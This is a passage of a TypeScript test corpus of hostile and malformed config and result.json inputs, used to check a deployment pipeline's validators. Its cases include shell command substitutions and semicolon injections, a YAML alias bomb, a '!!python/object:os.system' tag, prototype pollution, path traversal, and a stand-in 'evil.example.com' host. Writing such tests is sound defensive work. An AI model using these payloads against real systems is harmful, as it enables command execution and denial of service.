      ['bake', 'chefAttributes'],
      { blob: 'z'.repeat(9000) },
    ],
  ];
  const fieldOf = (fieldPath: (string | number)[], category: AppConfigCategory) => {
    const parentOnly =
      category === 'unknown-field' || fieldPath[0] === 'tags' || fieldPath[0] === 'baseImage';
    const at = parentOnly && fieldPath.length > 1 ? fieldPath.slice(0, -1) : fieldPath;
    return ['appConfig', ...(category === 'unknown-field' && fieldPath.length === 1 ? [] : at)].join('.');
  };
  for (const [category, id, fieldPath, value] of mutations) {
    const build = (appId: string) => {
      const config = withField(validAppConfig(appId), fieldPath, value);
      const text = JSON.stringify(config).split('{appId}').join(appId);
      return JSON.parse(text) as Json;
    };
    const error = category === 'size' ? 'RunConfigTooLargeError' : 'AppConfigInvalidError';
    const field = category === 'size' ? 'bake.chefAttributes' : fieldOf(fieldPath, category);
    cases.push({ id: `${category}/inline/${id}`, category, delivery: 'inline', build, error, field });
    cases.push({
      id: `${category}/s3/${id}`,
      category,
      delivery: 's3',
      build: (appId) => stringify(build(appId)),
      error,
      field,
    });
  }

  const yamlText: [string, (appId: string) => string][] = [
    ['unclosed flow sequence', (appId) => `${stringify(validAppConfig(appId))}\nservices: [s3, sqs\n`],
    ['tab indentation', (appId) => stringify(validAppConfig(appId)).replace('\n  team:', '\n\tteam:')],
    ['duplicate top-level key', (appId) => `${stringify(validAppConfig(appId))}appId: sample-app\n`],
    [
      'duplicate nested key',
      (appId) =>
        stringify(validAppConfig(appId)).replace(
          '\n  instanceType: t3.medium',
          '\n  instanceType: t3.medium\n  instanceType: m5.large',
        ),
    ],
    [
      'duplicate key in JSON',
      (appId) => withDuplicate(validAppConfig(appId), ['bake', 'instanceType'], 'm5.large'),
    ],
    [
      'two documents',
      (appId) => `${stringify(validAppConfig(appId))}---\n${stringify(validAppConfig('sample-app'))}`,
    ],
    [
      'alias bomb',
      () =>
        `a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: [*d, *d, *d, *d, *d, *d, *d, *d, *d]\n`,
    ],
    ['flow nesting 20000 deep', () => `${'['.repeat(20000)}${']'.repeat(20000)}`],
    ['block sequences 20000 deep', () => `${'- '.repeat(20000)}x\n`],
    ['second deep document for the same worker', () => `chef: ${'{a: '.repeat(8000)}1${'}'.repeat(8000)}\n`],
    ['empty file', () => ''],
    ['null document', () => 'null\n'],
    ['a list', (appId) => stringify([validAppConfig(appId)])],
    ['a plain string', () => 'hello\n'],
    ['binary garbage', () => '\u0000\u0001\u0002\u00ff\ufffd\u0007'.repeat(50)],
    ['merge key', (appId) => `base: &base\n  instanceType: t3.medium\n${stringify(validAppConfig(appId))}`],
    [
      'custom tag',
      (appId) =>
        stringify(validAppConfig(appId)).replace(
          'team: payments-platform',
          'team: !!python/object:os.system [id]',
        ),
    ],
    ['2 MB of comments', (appId) => `${'# padding\n'.repeat(200000)}${stringify(validAppConfig(appId))}`],
  ];
  const yamlField: Record<string, string> = {
    'merge key': 'appConfig',
    'custom tag': 'appConfig',
  };
  for (const [id, build] of yamlText) {
    cases.push({
      id: `bad-yaml/s3/${id}`,
      category: 'bad-yaml',
      delivery: 's3',
      build,
      error: 'AppConfigInvalidError',
      field: yamlField[id] ?? 'appConfig',
    });
  }
  return cases;
};

// ---- command results ------------------------------------------------------------------------------

export type ResultStep = 'bake' | 'provision' | 'validate';

export interface ResultCase {
  id: string;
  step: ResultStep;
  /** result.json as the hostile builder writes it, given the one the command really produced. */
  body: (genuine: Record<string, unknown>) => string;
  /** The failure cause must contain this (the field, or that the file is not JSON). */
  cause: string;
}

/** Malformed and hostile `result.json` files for each command step. */
export const resultCorpus = (): ResultCase[] => {
  const cases: ResultCase[] = [];
  const edit =
    (field: string, value: unknown) =>
    (genuine: Record<string, unknown>): string =>
      JSON.stringify({ ...genuine, [field]: value });
  const without =
    (field: string) =>
    (genuine: Record<string, unknown>): string => {
      const { [field]: _dropped, ...rest } = genuine;
      return JSON.stringify(rest);
    };
  const text = (body: string) => () => body;
  const notJson = (step: ResultStep) => `${step} result.json is not valid JSON`;
  const field = (name: string) => `result.${name}:`;
  const huge = (genuine: Record<string, unknown>) =>
    JSON.stringify({ ...genuine, padding: 'p'.repeat(4 * 1024 * 1024) });
  const hugeKey = (genuine: Record<string, unknown>) =>
    JSON.stringify({ ...genuine, [`k${'$(id)'.repeat(200000)}`]: 1 });
  const common = (step: ResultStep): [string, ResultCase['body'], string][] => [
    ['empty file', text(''), notJson(step)],
    ['truncated JSON', (g) => JSON.stringify(g).slice(0, 20), notJson(step)],
    ['null', text('null'), 'result:'],
    ['an array', text('[]'), 'result:'],
    ['a string', text(JSON.stringify('ok')), 'result:'],
    ['an extra field with a command', edit('postInstall', `$(touch ${MARKER_FILE})`), 'result:'],
    ['__proto__', (g) => JSON.stringify(g).replace(/^{/, '{"__proto__":{"isAdmin":true},'), 'result:'],
    ['4 MB of padding', huge, 'result:'],
    ['a 1 MB key of substitutions', hugeKey, 'result:'],
  ];
  const specific: Record<ResultStep, [string, ResultCase['body'], string][]> = {
    bake: [
      ['amiId substitution', edit('amiId', `ami-0abc$(touch ${MARKER_FILE})`), field('amiId')],
      ['amiId semicolon', edit('amiId', 'ami-0123456789abcdef0;id'), field('amiId')],
      ['amiId trailing newline', edit('amiId', 'ami-0123456789abcdef0\n'), field('amiId')],
      ['amiId number', edit('amiId', 123), field('amiId')],
      ['amiId uppercase', edit('amiId', 'AMI-0123456789ABCDEF0'), field('amiId')],
      ['amiId missing', without('amiId'), field('amiId')],
      ['snapshotIds a string', edit('snapshotIds', 'snap-0123456789abcdef0'), field('snapshotIds')],
      ['snapshotIds empty', edit('snapshotIds', []), field('snapshotIds')],
      ['snapshotIds injection', edit('snapshotIds', ['snap-0123456789abcdef0`id`']), field('snapshotIds.0')],
      ['region injection', edit('region', 'eu-west-1; touch x'), field('region')],
      ['region newline', edit('region', 'eu-west-1\nus-east-1'), field('region')],
    ],
    provision: [
      ['launchTemplateId substitution', edit('launchTemplateId', 'lt-$(id)'), field('launchTemplateId')],
      ['asgName semicolon', edit('asgName', 'asg;touch x'), field('asgName')],
      ['asgName space', edit('asgName', 'asg name'), field('asgName')],
      ['asgName newline', edit('asgName', 'asg\nname'), field('asgName')],
      ['asgName number', edit('asgName', 7), field('asgName')],
      [
        'targetGroupArn injection',
        edit('targetGroupArn', 'arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/x/0a`id`'),
        field('targetGroupArn'),
      ],
      ['albDns with a path', edit('albDns', 'evil.example.com/$(id)'), field('albDns')],
      ['albDns with a scheme', edit('albDns', 'http://evil.example.com'), field('albDns')],
      [
        'terraformStateVersion substitution',
        edit('terraformStateVersion', `$(touch ${MARKER_FILE})`),
        field('terraformStateVersion'),
      ],
      [
        'terraformStateVersion newline',
        edit('terraformStateVersion', 'v1\nv2'),
        field('terraformStateVersion'),
      ],
      ['terraformStateVersion missing', without('terraformStateVersion'), field('terraformStateVersion')],
    ],
    validate: [
      ['passed negative', edit('passed', -1), field('passed')],
      ['passed fractional', edit('passed', 1.5), field('passed')],
      ['passed a string', edit('passed', '120'), field('passed')],
      [
        'passed infinite',
        (g) => JSON.stringify(g).replace(/"passed":\d+/, '"passed":1e400'),
        field('passed'),
      ],
      ['failed null', edit('failed', null), field('failed')],
      ['failed a string', edit('failed', '0'), field('failed')],
      ['skipped missing', without('skipped'), field('skipped')],
      [
        'reportKey into another app',
        edit('reportKey', 'dev/sample-app/0/validate/../../../prod/x/inspec-report.json'),
        field('reportKey'),
      ],
      ['reportKey quote', edit('reportKey', "dev/x/inspec-report.json'"), field('reportKey')],
      ['reportKey substitution', edit('reportKey', '$(id)/inspec-report.json'), field('reportKey')],
      ['reportKey newline', edit('reportKey', 'dev/x\ninspec-report.json'), field('reportKey')],
    ],
  };
  for (const step of ['bake', 'provision', 'validate'] as const) {
    for (const [id, body, cause] of [...specific[step], ...common(step)]) {
      cases.push({ id: `${step}/${id}`, step, body, cause });
    }
  }
  return cases;
};
